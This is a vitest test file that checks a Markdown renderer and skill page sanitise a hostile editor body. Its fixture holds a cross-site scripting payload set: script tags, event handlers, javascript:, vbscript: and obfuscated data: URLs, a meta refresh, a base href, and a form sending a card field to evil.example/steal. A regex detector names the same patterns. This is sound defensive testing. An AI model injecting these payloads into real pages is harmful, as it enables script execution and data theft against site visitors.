/** An editor's hostile Markdown body, through the real renderer and the real skill page: nothing
 * that runs, loads or navigates to script survives. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toHtml } from 'hast-util-to-html';
import { fromHtml } from 'hast-util-from-html';
import type { Element, Root } from 'hast';
import { build } from '../../build/index.ts';
import type { CatalogueModel } from '../../build/model.ts';
import { renderBody } from '../../build/render/markdown-body.ts';
import { skillHtml } from '../../build/emit/html/skill-page.ts';
import { pageFrame } from '../../build/emit/pages/frame.ts';
import { elements } from './dist.ts';

const HOSTILE = `
# Totally normal description

<script>alert('block')</script>

Inline <script>alert('inline')</script> and <img src=x onerror="alert('img')"> and <svg onload="alert('svg')"></svg>.

<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="card"></form>
<a href="https://example.com" onclick="alert('click')">raw link</a>
<div style="background:url(javascript:alert('css'))">styled</div>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">

[js link](javascript:alert('link')) [mixed case](JaVaScRiPt:alert('case')) [spaced]( javascript:alert('space'))
[entity](jav&#x09;ascript:alert('entity')) [vb](vbscript:msgbox) <javascript:alert('autolink')>
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![remote image](https://evil.example/track.png)
[reference link][evil]

[evil]: javascript:alert('reference')

A fine [link](https://example.com/ok) and \`<script>in code</script>\`.

\`\`\`html
<script>alert('fenced')</script>
\`\`\`
`;

const DANGEROUS_ELEMENTS = ['script', 'iframe', 'object', 'embed', 'style', 'form', 'input', 'svg', 'math', 'meta', 'base', 'link', 'frame', 'frameset'];

function problems(tree: Root | Element, allowed: readonly string[] = []): string[] {
  const found: string[] = [];
  for (const el of elements(tree)) {
    if (DANGEROUS_ELEMENTS.includes(el.tagName) && !allowed.includes(el.tagName)) found.push(`<${el.tagName}>`);
    for (const [name, value] of Object.entries(el.properties)) {
      if (/^on/i.test(name)) found.push(`${el.tagName} ${name}`);
      if (name === 'style') found.push(`${el.tagName} style`);
      const text = String(Array.isArray(value) ? value.join(' ') : value).replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (['href', 'src', 'action', 'formAction', 'data', 'srcSet', 'poster'].includes(name) && /^(javascript|vbscript|data):/.test(text)) {
        found.push(`${el.tagName} ${name}=${text}`);
      }
      if (name === 'src' && /^(https?:)?\/\//.test(text)) found.push(`${el.tagName} loads ${text}`);
    }
  }
  return found;
}

describe('sanitising an editor’s body', () => {
  it('leaves nothing that runs, loads or escapes in the rendered body', () => {
    const tree = renderBody(HOSTILE);
    expect(problems(tree)).toEqual([]);
    // Serialised and parsed again, as a browser would read it.
    const html = toHtml(tree);
    expect(problems(fromHtml(html, { fragment: true }))).toEqual([]);
    // Script URLs may survive as visible text (an autolink shown as words), never as an attribute.
    expect(html).not.toMatch(/<script|<iframe|<svg|<style|\son[a-z]+=|=\s*"?\s*(javascript|vbscript|data):/i);
  });

  it('keeps the harmless content: text, safe links, code shown as code', () => {
    const html = toHtml(renderBody(HOSTILE));
    expect(html).toContain('<a href="https://example.com/ok">link</a>');
    expect(html).toContain('&#x3C;script>in code&#x3C;/script>');
    expect(html).toContain('js link');
    expect(html).toContain('data image');
  });

  describe('on a real skill page', () => {
    let out: string;
    let model: CatalogueModel;
    beforeAll(async () => {
      out = mkdtempSync(join(tmpdir(), 'sanitise-'));
      ({ model } = await build({ contentDir: join(import.meta.dirname, '../fixtures/content-small'), outDir: out, constantsFile: null, env: { SOURCE_DATE_EPOCH: '1767225600' } }));
    });
    afterAll(() => rmSync(out, { recursive: true, force: true }));

    it('the page around a hostile body has no script, handler or script URL', () => {
      const html = skillHtml(pageFrame(model), { skill: model.skills[0].skill, body: HOSTILE, bundles: [] });
      // The page's own head links its stylesheet and icon; nothing else may load or run.
      const tree = fromHtml(html);
      expect(problems(tree, ['link', 'meta'])).toEqual([]);
      const heads = elements(tree).filter((el) => el.tagName === 'link' || el.tagName === 'meta' || el.tagName === 'base');
      expect(heads.filter((el) => el.tagName === 'base')).toEqual([]);
      expect(heads.every((el) => !String(el.properties.href ?? '').includes('evil'))).toBe(true);
      expect(html).not.toMatch(/<script|<iframe|<svg|<style|\son[a-z]+=|=\s*"?\s*(javascript|vbscript|data):|http-equiv/i);
    });
  });
});
